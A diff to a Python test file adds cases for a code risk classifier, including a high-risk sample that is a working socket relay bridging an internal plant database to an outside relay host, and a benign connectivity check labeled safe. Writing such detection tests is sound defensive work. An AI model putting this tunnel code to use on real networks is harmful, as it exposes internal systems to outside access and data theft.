@@ -7372,6 +7372,25 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "s', json=rule)\n",
             L,
         ),
+        # holdout216-219: an internal port bridged to someone's own machine
+        (
+            'import socket, threading\n'
+            'def pipe(a, b):\n'
+            '    while (d := a.recv(65536)):\n'
+            '        b.sendall(d)\n'
+            "ctl = socket.create_connection(('vps-relay.duckdns.org', 443))\n"
+            "db = socket.create_connection(('mes-db01.plant.local', 1433))\n"
+            'threading.Thread(target=pipe, args=(ctl, db), daemon=True).start()\n'
+            'pipe(db, ctl)\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            "for host, port in [('db.internal', 5432), ('api.example.com', 443)]:\n"
+            '    with socket.create_connection((host, port), timeout=3):\n'
+            "        print('ok', host)\n",
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
